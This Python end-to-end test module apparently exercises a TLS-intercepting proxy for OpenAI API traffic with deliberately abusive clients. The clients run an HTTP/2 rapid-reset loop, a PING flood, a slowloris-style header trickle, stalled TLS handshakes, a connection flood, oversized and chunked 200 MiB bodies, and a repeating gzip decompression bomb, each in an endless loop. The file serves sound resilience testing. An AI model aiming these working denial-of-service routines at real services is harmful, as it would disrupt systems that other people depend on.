"""Clients that mean harm, each in a process of its own: `python -m tests.e2e.abuse KIND HOST PORT CA_FILE`.

They come from another address than the tests' own clients and go on until they are ended.
"""

import contextlib
import gzip
import itertools
import json
import socket
import ssl
import sys
import time
from collections.abc import Callable

import h2.config
import h2.connection
from hyperframe.frame import PingFrame

from tests.e2e.clients import post

_ADDRESS = "127.0.0.2"
_HOST = "api.openai.com"
_CONNECT = f"CONNECT {_HOST}:443 HTTP/1.1\r\nHost: {_HOST}:443\r\n\r\n".encode()
_NAMES = [(":method", "POST"), (":scheme", "https"), (":authority", _HOST), (":path", "/v1/chat/completions")]
_MANY = 200
_MIB = 1 << 20


class Abuser:
    def __init__(self, host: str, port: int, ca_file: str) -> None:
        self._proxy = (host, port)
        self._ca_file = ca_file

    def plain(self) -> socket.socket:
        return socket.create_connection(self._proxy, timeout=10, source_address=(_ADDRESS, 0))

    def tunnel(self) -> socket.socket:
        plain = self.plain()
        plain.sendall(_CONNECT)
        plain.recv(4096)
        return plain

    def secure(self, alpn: str) -> ssl.SSLSocket:
        trust = ssl.create_default_context(cafile=self._ca_file)
        trust.set_alpn_protocols([alpn])
        return trust.wrap_socket(self.tunnel(), server_hostname=_HOST)

    def resets(self) -> None:
        """Requests taken back as soon as they are made, 20,000 of them if it is let."""
        client = h2.connection.H2Connection(h2.config.H2Configuration())
        client.initiate_connection()
        with self.secure("h2") as sock:
            for stream in range(1, 40_001, 2):
                client.send_headers(stream, _NAMES)
                client.reset_stream(stream)
                if stream % 100 == 1:
                    sock.sendall(client.data_to_send())

    def pings(self) -> None:
        client = h2.connection.H2Connection(h2.config.H2Configuration())
        client.initiate_connection()
        with self.secure("h2") as sock:
            sock.sendall(client.data_to_send())
            for _ in range(100):
                sock.sendall(PingFrame(0, opaque_data=b"12345678").serialize() * 1000)

    def headers(self) -> None:
        """Requests of which a byte comes now and then."""
        socks = [self.plain() for _ in range(_MANY)]
        for byte in itertools.cycle(b"x"):
            for sock in socks:
                sock.sendall(bytes([byte]))
            time.sleep(0.2)

    def handshakes(self) -> None:
        """Tunnels in which TLS begins and does not go on."""
        socks = [self.tunnel() for _ in range(_MANY)]
        for sock in socks:
            sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01")
        time.sleep(60)
        for sock in socks:
            sock.close()

    def flood(self) -> None:
        """More connections than anybody may have."""
        socks = [self.plain() for _ in range(1000)]
        time.sleep(0.5)
        for sock in socks:
            sock.close()

    def declared(self) -> None:
        with self.secure("http/1.1") as sock:
            sock.sendall(post(_HOST, "/v1/chat/completions", b"", f"Content-Length: {200 * _MIB}"))
            for _ in range(200):
                sock.sendall(b"x" * _MIB)

    def chunked(self) -> None:
        with self.secure("http/1.1") as sock:
            sock.sendall(post(_HOST, "/v1/chat/completions", b"", "Transfer-Encoding: chunked"))
            for _ in range(200):
                sock.sendall(b"100000\r\n" + b"x" * _MIB + b"\r\n")

    def bombs(self) -> None:
        bomb = gzip.compress(json.dumps({"prompt": " " * 200 * _MIB}).encode())
        while True:
            with self.secure("http/1.1") as sock:
                sock.sendall(post(_HOST, "/v1/chat/completions", bomb, "Content-Encoding: gzip"))
                while sock.recv(65536):
                    pass


def main(kind: str, host: str, port: str, ca_file: str) -> None:
    act: Callable[[], None] = getattr(Abuser(host, int(port), ca_file), kind)
    while True:
        with contextlib.suppress(OSError):  # being refused is no reason to stop
            act()


if __name__ == "__main__":
    main(*sys.argv[1:])
